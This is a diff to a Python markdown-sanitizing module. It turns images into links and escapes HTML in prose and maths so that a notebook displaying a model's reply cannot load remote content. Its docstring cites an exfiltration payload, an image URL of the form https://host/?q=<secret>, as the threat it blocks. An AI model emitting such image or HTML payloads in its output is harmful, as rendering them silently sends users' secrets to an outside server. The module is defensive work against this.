@@ -72,9 +72,14 @@ def strip_code_blocks(text: str) -> str:
     return re.sub(r"\n{3,}", "\n\n", prose).strip()
 
 
-# An image (![alt](url), ![alt][ref]) and an inline code span (`...`, ``...``).
-_IMAGE = re.compile(r"!\[(?=[^\]\n]*\]\s*[(\[])")
-_CODE_SPAN = re.compile(r"(?<!`)(`+)(?!`).+?(?<!`)\1(?!`)", re.DOTALL)
+# Within one paragraph (no blank line): a code span (not after a backslash) or maths.
+_PARAGRAPH = r"(?:(?!\n[ \t]*\n).)"
+_SPANS = re.compile(
+    rf"(?P<code>(?<![`\\])(?P<ticks>`+)(?!`){_PARAGRAPH}+?(?<!`)(?P=ticks)(?!`))"
+    rf"|(?P<math>(?<!\\)\$\${_PARAGRAPH}+?\$\$|(?<![\\$])\$[^$\n]+?(?<!\\)\$"
+    rf"|\\\({_PARAGRAPH}+?\\\)|\\\[{_PARAGRAPH}+?\\\])",
+    re.DOTALL,
+)
 
 
 def inert_markdown(text: str) -> str:
@@ -82,9 +87,12 @@ def inert_markdown(text: str) -> str:
 
     A reply (or an output it quotes) could carry ``![](https://host/?q=<secret>)`` or
     raw HTML such as ``<img src=...>``: a notebook renders those on display, which
-    would send data to a stranger's server without a click. Outside code, images become
-    links (``[image: alt](url)``) and ``<`` is escaped, so HTML shows as text. Fenced
-    blocks and code spans are left as they are: they render as code.
+    would send data to a stranger's server without a click. So every ``![`` becomes
+    ``[image: `` (an image turns into a link, or plain text) and ``<`` is escaped
+    (HTML shows as text): as ``&lt;`` in prose, as ``\\lt`` in maths (which a notebook
+    hands to MathJax unescaped). Fenced blocks and code spans are left as they are:
+    they render as code. Anything this misreads as prose is escaped too, which costs
+    looks, never safety (a 4-space indented code block shows ``&lt;``).
     """
     lines = _lines(text)
     code = [False] * len(lines)
@@ -107,12 +115,19 @@ def inert_markdown(text: str) -> str:
 
 def _inert_prose(text: str) -> str:
     pieces, last = [], 0
-    for span in _CODE_SPAN.finditer(text):
-        pieces.append(_IMAGE.sub("[image: ", text[last : span.start()]).replace("<", "&lt;"))
-        pieces.append(span.group())
+    for span in _SPANS.finditer(text):
+        pieces.append(_inert_text(text[last : span.start()]))
+        if span["code"]:
+            pieces.append(span["code"])
+        else:
+            pieces.append(span["math"].replace("![", "[image: ").replace("<", "\\lt "))
         last = span.end()
-    pieces.append(_IMAGE.sub("[image: ", text[last:]).replace("<", "&lt;"))
+    pieces.append(_inert_text(text[last:]))
     return "".join(pieces)
+
+
+def _inert_text(text: str) -> str:
+    return text.replace("![", "[image: ").replace("<", "&lt;")
 
 
 def _lines(text: str) -> list[str]:
